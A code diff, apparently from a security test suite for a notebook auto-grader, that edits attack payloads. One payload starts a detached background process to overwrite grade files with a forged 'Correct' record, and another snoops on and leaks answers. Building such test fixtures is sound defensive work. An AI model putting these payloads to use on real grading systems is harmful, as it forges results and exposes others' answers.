@@ -91,6 +91,8 @@ def attacks(paths: dict[str, Path], port: int) -> dict[str, nbformat.NotebookNod
             except Exception as error:
                 builtins.print("cannot write", error)
             raise RuntimeError(text[:200])
+
+        leak(answer_1)
     """
     read_all = f"""
         found = []
@@ -109,17 +111,17 @@ def attacks(paths: dict[str, Path], port: int) -> dict[str, nbformat.NotebookNod
         answer_1 = answer_2 = answer_3 = " ".join(found)
     """
     rewrite = f"""
-        import subprocess, sys, os
-        script = '''
-import time, os
-time.sleep(4)
-for path in ["{paths["csv"]}", "{paths["loot"]}"]:
-    try:
-        open(path, "w").write("mallory,03-the-visa-surge,03.1,1,1,Correct.\\\\n")
-    except Exception:
-        pass
-# wa-detached-{TOKEN}
-'''
+        import subprocess, sys, os, textwrap
+        script = textwrap.dedent('''
+            import time, os
+            time.sleep(4)
+            for path in ["{paths["csv"]}", "{paths["loot"]}"]:
+                try:
+                    open(path, "w").write("mallory,03-the-visa-surge,03.1,1,1,Correct.\\\\n")
+                except Exception:
+                    pass
+            # wa-detached-{TOKEN}
+        ''')
         subprocess.Popen(
             [sys.executable, "-c", script],
             start_new_session=True,
@@ -211,7 +213,7 @@ for path in ["{paths["csv"]}", "{paths["loot"]}"]:
     return {
         "registry": small(registry_attack),
         "patcher": small(patch),
-        "snoop": small(read_all, leak + "\nleak(answer_1)"),
+        "snoop": small(read_all, leak),
         "writer": small(
             f"""
             import os
